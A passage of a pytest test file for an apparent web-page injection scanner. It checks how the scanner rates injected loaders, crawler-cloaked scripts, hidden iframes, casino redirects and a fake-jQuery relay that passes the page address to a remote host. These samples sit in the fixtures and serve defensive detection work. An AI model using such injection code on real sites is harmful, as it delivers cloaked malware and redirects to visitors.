        post: str, audit_listed: AuditListed) -> None:
    """A button whose click starts a download is a fake update only where its block says
    the browser needs one and the file is a program: not a portal's download button, not
    a notice sending the visitor to a page, not a test of the address."""
    report = audit_listed(wp_page(post=post), URL)
    assert [f for f in report.findings if f.kind == "fake-update"] == [], report.findings


@pytest.mark.parametrize("beside", [
    '<a href="https://login.casino-x.example/" style="display:none">login</a>',
    '<a href="https://login.casino-x.example/auth"></a>',
    '<link rel="preconnect" href="https://login.casino-x.example">',
    "<!-- login.casino-x.example -->",
])
def test_a_kits_gate_is_not_backed_by_a_mention_no_visitor_sees(
        beside: str, audit_listed: AuditListed) -> None:
    """A cookie gate's target was `low` wherever the page's text named its site again: a
    hidden or empty link, a hint or a comment the kit adds beside its redirect. The site
    is shown by a link a visitor sees, a form, or a script or stylesheet it serves."""
    code = ("if(document.cookie.indexOf('logged_in=')===-1){window.location.replace("
            "'https://login.casino-x.example/auth?r=1');}")
    report = audit_listed(wp_page(head=f"<script>{code}</script>", widget=beside), URL)
    assert [(f.kind, f.severity) for f in report.findings if f.kind == "redirect"] == [
        ("redirect", M)], report.findings
    shown = audit_listed(wp_page(head=f"<script>{code}</script>", widget=(
        '<a href="https://login.casino-x.example/auth">Sign in</a>')), URL)
    assert [(f.kind, f.severity) for f in shown.findings if f.kind == "redirect"] == [
        ("redirect", L)], shown.findings


# --- Balada's throwaway hosts: tracker words glued into one name --------------------------
# Balada's loaders came from throwaway domains built of words glued together under a short
# subdomain (`js.`, `cdn.`, `stay.`), several named only of a tracker's words glued without
# a hyphen. A name of such words alone reads as a CDN or a tracker glued (`statisticscripts`,
# `trackstatistics`) as it did hyphenated (`stats-cdn`): a mark that makes the loader high
# where no template writes. A name with a word of its own (`linestoget`, `statisticline`)
# is how vendors name themselves too (`getsitecontrol`): still the place's `medium`. Their
# paths (`/stat.js`, `/ga.js`) are a tracker's, which EasyPrivacy blocks by the path alone.

def _plain_loader(src: str) -> str:
    return BALADA_PLAIN.replace("https://stay.linestoget.test/scripts/check.js?v=9", src)


@pytest.mark.parametrize(("where", "src", "severity"), [
    ("head_top", "https://js.statisticscripts.test/stat.js", H),
    ("head_top", "https://cdn.trackstatistics.test/ga.js", H),
    ("after", "https://cdn.analyticscdn.test/stat.js?v=2", H),
    ("head_top", "https://cdn.statisticline.test/stat.js", M),  # a word of its own: `line`
    ("head_top", "https://stay.linestoget.test/scripts/check.js?v=9", M),
    ("after", "https://cdn.statisticline.test/ga.js", M),
    # EasyPrivacy blocks `/stat.js?` wherever it is served: a path rule names no vendor, so
    # the loader is judged as any unknown host's (it was no finding, as a listed vendor's is)
    ("after", "https://cdn.statisticline.test/stat.js?v=2", M),
], ids=["glued tracker words, head top", "glued, ga.js", "glued, after </html>",
        "a word of its own, head top", "balada's linestoget", "a word of its own, after",
        "a word of its own, after, a path easyprivacy blocks"])
def test_a_loader_from_a_host_of_glued_tracker_words_is_high_where_no_template_writes(
        where: str, src: str, severity: Severity, audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(**{where: _plain_loader(src)}), URL).findings
             if f.kind == "appended-script"]
    assert [f.severity for f in found] == [severity], found
    assert (f"{host_of(src)} " in found[0].message or src in found[0].message)


def test_a_vendors_widget_pasted_after_html_from_a_glued_name_of_its_own_is_medium(
        audit_listed: AuditListed) -> None:
    """CounterAPI's view counter (`<script src="https://counterapi.com/c.js" async>`, as its
    docs give it, pasted at the file's end as widgets are) is named of `counter` and `api`
    glued: a short word glued on is a vendor's own name, not a kit's dressing, so the place's
    `medium` (it read `high`, "a host dressed as a CDN or tracker")."""
    page = wp_page(after='<script src="https://counterapi.com/c.js" async></script>')
    found = [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
    assert [f.severity for f in found] == [M], found


def test_a_glued_tracker_host_in_the_templates_head_is_no_finding(audit_listed: AuditListed
                                                                   ) -> None:
    """In the head after the charset, where a template prints every vendor's tag, a host's
    name alone says nothing: no finding, as for any unknown vendor's tag."""
    page = wp_page(head='<script async src="https://cdn.statisticscripts.test/stat.js">'
                        '</script>')
    assert audit_listed(page, URL).findings == ()


# a news site's own template that loads its files before it declares the charset, late in
# the head: its stylesheet, its jQuery, its sister site's ad library, its own code, then the
# title, sixty metas and the charset (made-up hosts, the shape of a 2014 network's head)
_LATE_CHARSET_HEAD = """<!DOCTYPE html>
<html lang="en"><head>
<link href="/static/css/base.css?2014" rel="stylesheet" type="text/css">
<script>var SITE_page = {section: "marketing"};</script>
<script src="/static/js/jquery.js?2014"></script>
<script src="http://ads.sisternews.test/js/ad.js"></script>
<script src="/static/js/base.js?2014"></script>
<title>Seven ways to convert traffic</title>
<meta name="description" content="Conversions matter more than traffic.">
<meta http-equiv="content-type" content="text/html; charset=UTF-8">
<link href="/static/css/article.css?2014" rel="stylesheet" type="text/css">
</head><body><article><h1>Seven ways to convert traffic</h1>""" + _PARA + """</article>
</body></html>"""


def test_a_script_among_the_templates_own_files_before_a_late_charset_is_not_found(
        audit_listed: AuditListed) -> None:
    """Before the charset, but after the site's own stylesheet and script: the template
    writes its files there itself, declaring its charset late; no top of head to be before."""
    found = [f for f in audit_listed(_LATE_CHARSET_HEAD, URL).findings
             if f.kind == "appended-script"]
    assert found == [], found


def test_a_script_before_the_templates_own_files_and_a_late_charset_is_still_found(
        audit_listed: AuditListed) -> None:
    """The blob an injector writes right after `<head>`, before the template's first file,
    is at the head's top whatever comes after it."""
    page = _LATE_CHARSET_HEAD.replace(
        "<head>\n", '<head>\n<script src="https://cdn.statsync.test/loader/statsync.js">'
        "</script>\n", 1)
    found = [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
    assert [f.evidence for f in found] == ["https://cdn.statsync.test/loader/statsync.js"], found


def test_a_late_charset_templates_relative_files_are_its_own_with_no_page_url(
        audit_listed: AuditListed) -> None:
    """A saved page with no address and no canonical: its template's relative files are on
    its own site whatever that is, so the late-charset head's own run ends at them as it
    does with the address known; an injector's tag before them is still found."""
    assert [f for f in audit_listed(_LATE_CHARSET_HEAD, None).findings  # type: ignore[arg-type]
            if f.kind == "appended-script"] == []
    page = _LATE_CHARSET_HEAD.replace(
        "<head>\n", '<head>\n<script src="https://cdn.statsync.test/loader/statsync.js">'
        "</script>\n", 1)
    found = [f for f in audit_listed(page, None).findings  # type: ignore[arg-type]
             if f.kind == "appended-script"]
    assert [f.evidence for f in found] == ["https://cdn.statsync.test/loader/statsync.js"], found


# a Next.js page (pages router): the `_document`'s own head children (a tag manager, an
# accessibility widget's documented loader) print before the tags `next/head` manages,
# whose `charSet` comes first and whose count closes them
_WIDGET = ('<script>(function(d){var s=d.createElement("script");s.setAttribute('
           '"data-account","Qw3rTy12");s.setAttribute("src","https://a11y-helper.test/'
           'widget.js");(d.body||d.head).appendChild(s);})(document)</script>')


def _next_head(count: str, *, marked: bool = False, prose: str = "") -> str:
    mark = ' data-next-head=""' if marked else ""
    return (f'<!DOCTYPE html><html lang="en"><head><meta name="application-name" '
            f'content="Harbour Gazette"/>{_GTM_TOP}{_WIDGET}<meta charSet="utf-8"{mark}/>'
            f'<title{mark}>Ferry timetable vote</title><meta name="viewport" content="width='
            f'device-width"{mark}/>' + (f'<meta name="next-head-count" content="{count}"/>'
                                        if count else "")
            + '<link rel="stylesheet" href="/_next/static/css/4f1a.css"/><script src="/_next/'
            'static/chunks/main-9c2e.js" defer=""></script></head><body><div id="__next">'
            f"<article><h1>Ferry timetable vote</h1>{prose}{_PARA}</article></div></body></html>")


@pytest.mark.parametrize(("page", "found"), [
    (_next_head("3"), False),  # the charset opens the three tags next/head counts
    (_next_head("", marked=True), False),  # next/head marks each tag it writes
    (_next_head("2"), True),  # a count that stops short of the charset: another run's
    (_next_head("4"), True),  # a count that reaches past it: the charset is not first
    (_next_head("", prose='<pre>&lt;meta name="next-head-count" content="3"&gt;</pre>'), True),
], ids=["counted", "marked", "count short", "count past", "the words in a pre"])
def test_a_script_before_a_charset_next_heads_manager_writes_is_the_templates(
        page: str, found: bool, audit_listed: AuditListed) -> None:
    """Next.js prints a page's `_document` head children before the tags `next/head`
    manages, its `charSet` first of them: what precedes that charset is the template's
    (akispetretzikis.com's GTM, GPT and an accessibility widget's loader), no head top an
    injector writes before it. A charset next/head did not write is still the top's end."""
    urls = [f.evidence for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
    assert urls == (["https://a11y-helper.test/widget.js"] if found else []), urls


@pytest.mark.parametrize("fake", [
    '<meta charset="utf-8" data-next-head="">',
    '<meta charset="utf-8"><meta name="next-head-count" content="1">',
    '<meta http-equiv="Content-Type" content="text/html; charset=utf-8" data-next-head="">',
], ids=["marked", "counted", "marked http-equiv"])
def test_a_charset_an_injector_marks_as_next_heads_hides_no_head_top(
        fake: str, audit_listed: AuditListed) -> None:
    """next/head writes one charset (it keeps one of each `charSet`): a marked or counted
    charset the template's own charset follows is an injector's, written after its loader
    at the head's top to pass for Next.js's; the top still ends at the template's."""
    page = wp_page(head_top=_WIDGET + fake)
    urls = [f.evidence for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
    assert urls == ["https://a11y-helper.test/widget.js"], urls


def test_a_file_invented_in_the_templates_own_folder_reads_as_the_templates(
        audit_listed: AuditListed) -> None:
    """Why no line on the page tells an injector's invented file in the template's own
    build folder (`/wp-content/themes/gazette/k7.css`, then its blob) from the template's
    first file: the folder is the template's, vouched for by the theme's files past the
    charset; the file is loaded once, as the template prints each of its files; a shared
    version or build hash is no test, for WordPress stamps each file with its own
    package's (`style.css?ver=5.1` beside `jquery.js?ver=1.12.4`) and a bundler each with
    its own content hash (`main.8c1d.css` beside `main.2b7e.js`), and either is copied
    as cheaply as the folder. Whether the file exists is the server's to show, not the
    page's. Nor is the order one: real late-charset templates print other sites' tags
    between their own files (Deutsche Welle's jQuery Migrate between two `/js/` files, Fox
    Business's sister site's `ad.js` between two `/static/v/all/` ones, Details' Adobe
    Launch between `/css/` and `/js/`), as an injector's blob after its invented file is.
    So both read alike, the blob's tag after either being in the template's order;
    the injector's blob is still read by its host and code (`_appended_verdict`) and the
    other heuristics."""
    rest = (f'<link rel="stylesheet" href="{SITE}/wp-content/themes/gazette/style.css?ver=5.1">'
            f'<script src="{SITE}/wp-includes/js/jquery/jquery.js?ver=1.12.4"></script>')
    tag = '<script src="https://stay.linestoget.test/scripts/check.js"></script>'
    own = _late_charset_page(
        f'<link rel="stylesheet" href="{SITE}/wp-content/themes/gazette/blocks.css?ver=5.1">'
        + tag, rest)
    invented = _late_charset_page(
        f'<link rel="stylesheet" href="{SITE}/wp-content/themes/gazette/k7.css">' + tag, rest)
    verdicts = [[f.severity for f in audit_listed(page, URL).findings
                 if f.kind == "appended-script"] for page in (own, invented)]
    assert verdicts == [[], []]


# a loader hidden from crawlers and page audits: a user-agent test for their names before
# another site's script (made-up hosts; the shapes a scraper's injected kit writes)
_CRAWLER_CLOAKED = {
    "document.write behind a bot test": (
        "<script>if(!/bot|crawl|spider/i.test(navigator.userAgent)){document.write('<scr'+'ipt "
        "src=\"https://cdn.quick-load.example/p.js\"></scr'+'ipt>');}</script>"),
    "a script element behind a Lighthouse test": (
        "<script>if(navigator.userAgent.indexOf('Chrome-Lighthouse')==-1){var s=document."
        "createElement('script');s.src='https://go.popflow.example/tag.js?z=8812';document.body."
        "appendChild(s);}</script>"),
    "an early return for headless browsers": (
        "<script>(function(){var u=navigator.userAgent;if(/HeadlessChrome|Googlebot/.test(u))"
        "return;var s=document.createElement('script');s.async=true;s.src='//cdn.quick-load."
        "example/q.js';document.head.appendChild(s);})();</script>"),
}


@pytest.mark.parametrize("name", sorted(_CRAWLER_CLOAKED))
def test_a_loader_hidden_from_crawlers_is_medium(name: str, audit_listed: AuditListed) -> None:
    """Another site's script loaded only where the user agent is no crawler's or audit's
    is a cloaked loader, worth a look (it was no finding: a third-party script the page's
    code loads is the page's business, and the test before it went unread)."""
    report = audit_listed(wp_page(widget=_CRAWLER_CLOAKED[name]), URL)
    found = [f for f in report.findings if f.kind == "tds-loader"]
    assert [f.severity for f in found] == [M], report.findings
    assert "crawler" in found[0].message and "check the site chose" in found[0].message


@pytest.mark.parametrize("joined", [False, True], ids=["its own line", "joined to </html>"])
def test_a_loader_hidden_from_crawlers_after_html_is_one_finding(
        joined: bool, audit_listed: AuditListed) -> None:
    """The same cloaked loader written after `</html>` is `appended-script`'s, as its
    docstring said and the code did not: one tag, one finding (it was two mediums)."""
    code = _CRAWLER_CLOAKED["document.write behind a bot test"]
    page = wp_page().rstrip() + code if joined else wp_page(after=code)
    assert [(f.kind, f.severity) for f in audit_listed(page, URL).findings] == [
        ("appended-script", M)]


@pytest.mark.parametrize("code", [
    # the same loader with no user-agent test: a site's own third-party tag
    "<script>var s=document.createElement('script');s.src='https://cdn.quick-load.example/q.js';"
    "document.head.appendChild(s);</script>",
    # a test of the device, not of a crawler
    "<script>if(/Android|iPhone/i.test(navigator.userAgent)){var s=document.createElement("
    "'script');s.src='https://cdn.quick-load.example/m.js';document.head.appendChild(s);}"
    "</script>",
    # a vendor the catalogue knows, spared to crawlers
    "<script>if(!/bot|crawl|spider/i.test(navigator.userAgent)){var s=document.createElement("
    "'script');s.src='https://www.googletagmanager.com/gtag/js?id=G-ABCDE12345';document.head"
    ".appendChild(s);}</script>",
    # a crawler test far before the load, in another part of a bundle
    "<script>var isBot=/bot|crawl/i.test(navigator.userAgent);" + "var pad=0;" * 80
    + "var s=document.createElement('script');s.src='https://cdn.quick-load.example/q.js';"
    "document.head.appendChild(s);</script>",
], ids=["no user-agent test", "a device test", "a known vendor", "a test far away"])
def test_a_loader_not_hidden_from_crawlers_is_none(code: str, audit_listed: AuditListed
                                                   ) -> None:
    """No crawler test before the address, a test of the device, a vendor the lists know:
    no cloaked loader."""
    report = audit_listed(wp_page(widget=code), URL)
    assert [f for f in report.findings if f.kind == "tds-loader"] == [], report.findings


def _cloaked(src: str, test: str = "!/bot|crawl|spider/i.test(navigator.userAgent)") -> str:
    return (f"<script>if({test}){{var s=document.createElement('script');s.async=true;"
            f"s.src='{src}';document.head.appendChild(s);}}</script>")


@pytest.mark.parametrize("parts", [
    # the site's own CDN serves its stylesheet, and the comments widget spared to bots
    {"head": '<link rel="stylesheet" href="https://static.hgcdn.example/css/main.css">',
     "widget": _cloaked("https://static.hgcdn.example/js/comments.js")},
    # its pictures, and a chat widget spared to PageSpeed's Lighthouse
    {"post": '<img src="https://img.hgcdn.example/2026/11/ferry.jpg" alt="ferry">',
     "widget": _cloaked("https://static.hgcdn.example/js/chat.js",
                        "navigator.userAgent.indexOf('Chrome-Lighthouse')==-1")},
    # a CDN customer's own host, its stylesheet and its widget there
    {"head": '<link rel="stylesheet" href="https://harbour.cdn77.org/css/main.css">',
     "widget": _cloaked("https://harbour.cdn77.org/js/comments.js")},
], ids=["its stylesheet's CDN", "its pictures' CDN, a Lighthouse test",
        "its own host on a shared CDN"])
def test_a_loader_of_the_sites_own_cdn_spared_to_crawlers_is_none(
        parts: dict[str, str], audit_listed: AuditListed) -> None:
    """A publisher sparing crawlers and audits a heavy widget from the CDN its own markup
    takes its stylesheet or pictures from is the site's choice, no cloaked loader (it was
    medium: the host is another site's and no vendor's)."""
    report = audit_listed(wp_page(**parts), URL)
    assert [f for f in report.findings if f.kind == "tds-loader"] == [], report.findings


@pytest.mark.parametrize("parts", [
    # the kit's counter image in a <noscript>, from the loader's host
    {"widget": _cloaked("https://cdn.quick-load.example/p.js")
     + '<noscript><img src="https://cdn.quick-load.example/c.gif?id=7" width="1" '
       'height="1"></noscript>'},
    # a connection hint to the loader's host
    {"head": '<link rel="preconnect" href="https://cdn.quick-load.example">',
     "widget": _cloaked("https://cdn.quick-load.example/p.js")},
    # a stylesheet from an open host serves anyone's files: it vouches for no one
    {"head": '<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/normalize.css@8/'
             'normalize.min.css">',
     "widget": _cloaked("https://cdn.jsdelivr.net/gh/quickload/kit@1/p.js")},
    # the kit's own script tag from the loader's host, beside it
    {"widget": '<script src="https://cdn.quick-load.example/a.js"></script>'
     + _cloaked("https://cdn.quick-load.example/p.js")},
    # its counter's 1x1 image from the host, outside a <noscript>
    {"widget": _cloaked("https://cdn.quick-load.example/p.js")
     + '<img src="https://cdn.quick-load.example/c.gif?id=7" width="1" height="1" alt="">'},
    # a stylesheet of another customer of a CDN no list splits by customer
    {"head": '<link rel="stylesheet" href="https://harbour.cdn77.org/css/main.css">',
     "widget": _cloaked("https://quickload.cdn77.org/p.js")},
], ids=["a noscript counter", "a preconnect", "an open host's stylesheet",
        "a script tag of the host", "a 1x1 image of the host", "another CDN customer's"])
def test_a_cloaked_loader_its_host_otherwise_unused_stays_medium(
        parts: dict[str, str], audit_listed: AuditListed) -> None:
    """The injected twins: a loader hidden from crawlers whose host the page's markup
    takes none of its own files from stays medium."""
    report = audit_listed(wp_page(**parts), URL)
    assert [f.severity for f in report.findings if f.kind == "tds-loader"] == [M], \
        report.findings


@pytest.mark.parametrize("code", [
    # a chat widget's settings name its bot, beside a device test
    "<script>window.HelpChatConfig={mode:'bot',greeting:'Hi there'};var mobile=/iPhone|"
    "Android/i.test(navigator.userAgent);var s=document.createElement('script');s.async=true;"
    "s.src='https://widget.helpchat-ai.example/embed.js';document.body.appendChild(s);</script>",
    # a spider chart's library, beside a touch test
    "<script>var touch=navigator.userAgent.indexOf('Mobile')>-1;var chart={kind:'spider'};"
    "var s=document.createElement('script');s.src='https://charts.plotkit-lite.example/"
    "spider.js';document.head.appendChild(s);</script>",
], ids=["a chat bot's settings", "a spider chart"])
def test_a_crawler_word_the_user_agent_is_not_tested_for_is_no_cloak(
        code: str, audit_listed: AuditListed) -> None:
    """A crawler's name near a user-agent read but not what the user agent is tested for
    (a setting, a chart's kind) hides nothing from crawlers (it read medium)."""
    report = audit_listed(wp_page(widget=code), URL)
    assert [f for f in report.findings if f.kind == "tds-loader"] == [], report.findings


@pytest.mark.parametrize("test", [
    "!navigator.userAgent.match(/googlebot|bingbot|crawler/i)",
    "!new RegExp('bot|crawl|spider','i').test(navigator.userAgent)",
    "!['bot','crawl','spider'].some(function(w){return navigator.userAgent.toLowerCase()"
    ".indexOf(w)>-1})",
], ids=["match", "new RegExp", "a list of names"])
def test_each_form_of_a_crawler_test_hides_a_loader(test: str, audit_listed: AuditListed
                                                    ) -> None:
    report = audit_listed(wp_page(widget=_cloaked("https://cdn.quick-load.example/p.js",
                                                  test)), URL)
    assert [f.severity for f in report.findings if f.kind == "tds-loader"] == [M], \
        report.findings


def test_a_loader_shown_only_to_crawlers_says_so(audit_listed: AuditListed) -> None:
    """A loader run only where the user agent is a crawler's (`if(/bot|…/i.test(ua)){…}`) is
    cloaked the other way about: still medium, but not said to be hidden from crawlers (the
    message said 'only for visitors whose user agent is no crawler's')."""
    shown = _cloaked("https://seo.prerender-kit.example/p.js",
                     "/bot|crawl|spider/i.test(navigator.userAgent)")
    found = [f for f in audit_listed(wp_page(widget=shown), URL).findings
             if f.kind == "tds-loader"]
    assert [f.severity for f in found] == [M], found
    assert "user agent is a crawler's" in found[0].message
    assert "no crawler's" not in found[0].message
    hidden = [f for f in audit_listed(wp_page(widget=_cloaked(
        "https://seo.prerender-kit.example/p.js")), URL).findings if f.kind == "tds-loader"]
    assert len(hidden) == 1 and "no crawler's" in hidden[0].message


# --- appended on the `</html>` line itself ---------------------------------------------
# An injector appending to the file with no newline writes `</html><script …>`: the page's
# markup and its tag on one line. Each was read by line alone (past `</html>`'s line), so
# the same tag lost the finding it has on a line of its own.
_JOINED = {
    "a loader": ('<script src="https://stay.linestoget.test/scripts/check.js"></script>',
                 "appended-script"),
    "a timed redirect": ("<script>setTimeout(function(){window.location.replace("
                         "'https://casino-lucky.example/go');},3000);</script>", "redirect"),
    "a hidden frame": ('<iframe src="https://adsrv-qk7.example/f" width="0" height="0">'
                       "</iframe>", "hidden-iframe"),
    # the host as the browser reads it, not as the line spells it: a character reference,
    # a Unicode label (requested punycoded), a percent-escaped dot; and code whose start
    # holds a `<` (the line's script starts were cut at it)
    "a loader, its host's dot a character reference": (
        '<script src="https://stay.linestoget&#46;test/scripts/check.js"></script>',
        "appended-script"),
    "a loader on a Unicode host": (
        '<script src="https://stay.l\u00ednestoget.test/scripts/check.js"></script>',
        "appended-script"),
    "a hidden frame, its host's dot percent-escaped": (
        '<iframe src="https://adsrv-qk7%2Eexample/f" width="0" height="0"></iframe>',
        "hidden-iframe"),
    # one tag right after another: the first's look at its code took the next `<script`
    "a timed redirect right after a loader": (
        '<script src="https://stay.linestoget.test/scripts/check.js"></script>'
        "<script>setTimeout(function(){window.location.replace("
        "'https://casino-lucky.example/go');},3000);</script>", "redirect"),
    "a timed redirect opening with a comparison": (
        "<script>if(history.length<3){setTimeout(function(){window.location.replace("
        "'https://casino-lucky.example/go');},3000);}</script>", "redirect"),
}


@pytest.mark.parametrize("what", sorted(_JOINED))
def test_what_is_appended_on_the_html_close_line_reads_as_on_a_line_of_its_own(
        what: str, audit_listed: AuditListed) -> None:
    markup, kind = _JOINED[what]
    own_line = wp_page(after=markup)
    joined = wp_page().rstrip() + markup + "\n"
    assert "</html>" + markup in joined

    def verdicts(page: str) -> list[Severity]:
        return [f.severity for f in audit_listed(page, URL).findings if f.kind == kind]
    assert verdicts(own_line), own_line
    assert verdicts(joined) == verdicts(own_line)


def test_a_one_line_pages_own_tag_before_its_html_close_is_not_appended(
        audit_listed: AuditListed) -> None:
    """A minified page, one line to its end, with a cache's comment after `</html>`: its
    template's widget tag is on the `</html>` line but before the tag, in the markup."""
    page = " ".join(wp_page(footer=_JOINED["a loader"][0]).split("\n")) + (
        "<!-- Performance optimized by W3 Total Cache. Served from: harbourgazette -->")
    assert "\n" not in page
    assert [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"] == []


@pytest.mark.parametrize(("src", "flagged"), [
    # Gravity's recommendation beacon, inserted at the head's top by the page's own code
    # (a DOM save keeps it there): a vendor the catalogue knows
    ("http://rma-api.gravity.com/v1/beacons/log?site_guid=0123456789abcdef0123456789abcdef"
     "&action=beacon&url=https%3A%2F%2Fharbour.example%2Fstory", False),
    ("http://rma-api.gravity.com/v1/beacons/initialize", False),
    # an unknown host in the same place stays a check
    ("https://cdn-stat-beacon.example/v1/beacons/log?site=1", True),
])
def test_a_known_recommendation_vendors_beacon_before_the_charset_is_no_injection(
        audit_html: AuditHtml, src: str, flagged: bool) -> None:
    html = (f'<!DOCTYPE html><html><head><script src="{src}"></script><meta charset="utf-8">'
            "<title>Story</title></head><body><p>Story text.</p></body></html>")
    report = audit_html(html, url="https://harbour.example/story")
    assert bool([f for f in report.findings if f.kind == "appended-script"]) is flagged


def test_a_one_line_pages_cdn_named_by_its_caches_comment_is_not_appended(
        audit_listed: AuditListed) -> None:
    """A minified page, one line to its end, whose cache plugin writes its comment on the
    `</html>` line naming the CDN the page's own files come from: a comment loads nothing,
    so the CDN's scripts before `</html>` stay in the markup (they read `high`)."""
    cdn = "https://d3kq7x2abc9f1z.cloudfront.net/wp-content/themes/gazette/js"
    page = " ".join(wp_page(footer=f'<script src="{cdn}/app.min.js"></script>')
                    .split("\n")) + (
        "<!-- Performance optimized by W3 Total Cache. Content Delivery Network via Amazon "
        "Web Services: CloudFront: d3kq7x2abc9f1z.cloudfront.net -->")
    assert "\n" not in page
    assert [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"] == []
    # an empty comment (`<!-->`) hides no tag after it: the loader is still past the end
    loader = _JOINED["a loader"][0]
    joined = wp_page().rstrip() + "<!-->" + loader + "<!-- -->\n"
    assert [f.kind for f in audit_listed(joined, URL).findings
            if f.kind == "appended-script"] == ["appended-script"]


def test_a_one_line_pages_own_slot_whose_zone_a_later_tag_names_is_not_after_the_page(
        audit_listed: AuditListed) -> None:
    """A minified page, one line to its end, with its own Revive zone 3 in the post and
    its analytics call on the `</html>` line passing a custom variable's slot 3: a word the
    page writes before `</html>` on that line is the page's, not the injector's, so the
    zone stays in the markup (it read ad-in-body `high`). An injector's zone written after
    `</html>` alone is still after the page."""
    zone = ('<ins data-revive-zoneid="3" data-revive-id="727bec5e09208690b050ccfc6a45d384">'
            '</ins><script async src="//ads.harbourgazette.example/www/delivery/asyncjs.php">'
            "</script>")
    tracking = ("<script>var _gaq=_gaq||[];_gaq.push(['_setCustomVar',3,'section','news',3]);"
                "</script>")
    page = " ".join(wp_page(post=zone).split("\n")) + tracking
    assert "\n" not in page

    def after_page(page: str) -> list[str]:
        return [f.kind for f in audit_listed(page, URL).findings
                if f.kind == "ad-in-body" and "after its closing" in f.message]
    assert after_page(page) == []
    assert after_page(" ".join(wp_page().split("\n")) + zone) == ["ad-in-body"]


# a redirect picked by the visitor's language unless a cookie says to stay, the address
# handed on by a settings script: to another site, high (to a twin of the site's name the
# page does not declare, as well: tests/heuristics/test_publisher_stacks.py)
GEO_TWIN = ("<script>var gzGeo={\"uk\":\"https://www.harbourgazette-{tld}/\"};</script>\n"
            "<script>if(navigator.language==='en-GB'&&!document.cookie.match(/stay=1/)){"
            "window.location.replace(gzGeo.uk);}</script>")


def test_a_language_redirect_to_another_site_stays_high(audit_listed: AuditListed) -> None:
    page = wp_page(footer=GEO_TWIN.replace("harbourgazette-{tld}", "prize-claim-center.test"))
    assert [f.severity for f in audit_listed(page, URL).findings
            if f.kind == "redirect"] == [H]


def test_a_redirect_to_the_sites_twin_for_search_visitors_stays_high(
        audit_listed: AuditListed) -> None:
    """A referrer test is cloaking whatever the host: a kit may send search visitors to a
    look-alike of the hacked site's name (`harbourgazette-europe` for harbourgazette)."""
    cloaked = ("<script>if(/google|bing|yahoo/i.test(document.referrer)){"
               "window.location.replace('https://www.harbourgazette-europe.example/');}</script>")
    assert [f.severity for f in audit_listed(wp_page(footer=cloaked), URL).findings
            if f.kind == "redirect"] == [H]


@pytest.mark.parametrize(("part", "campaigns"), [
    ({"head": KEITARO_NAMED}, ["k7q2"]),
    # the relay's address written whole, the kit's later form
    ({"footer": "<script>if (document.referrer) document.write('<script src=\"http://relay.test"
                "/js/jquery.min.php?c_utt=R40217&c_utm=' + encodeURIComponent(location.href) +"
                " '\"><\\/script>');</script>"}, ["R40217"]),
    # look-alikes: the kit's address shown as text, a parameter of the name with no c_utm
    # beside it, and the pair on an address that is no relay of the kit's
    ({"post": "<pre>var f_url = base + \"?c_utt=k7q2&amp;c_utm=\" + n_url; // jquery.min.php"
              "</pre>"}, []),
    ({"head": KEITARO_NAMED.replace("&c_utm=", "&utm=")}, []),
    ({"head": KEITARO_NAMED.replace("jquery.min.php", "track.php")}, []),
], ids=["handed-through-names", "written-whole", "shown-in-pre", "no-c_utm", "no-relay-path"])
def test_the_fake_jquery_tds_names_its_campaign(part: dict[str, str], campaigns: list[str],
                                                audit_listed: AuditListed) -> None:
    """The relay host changes from hacked site to hacked site; `c_utt` is the campaign the
    kit's operator named, the same on every site it injected: the page's ID."""
    report = audit_listed(wp_page(**part), URL)
    assert [i.value for i in report.ids if i.kind == "tds-campaign"] == campaigns
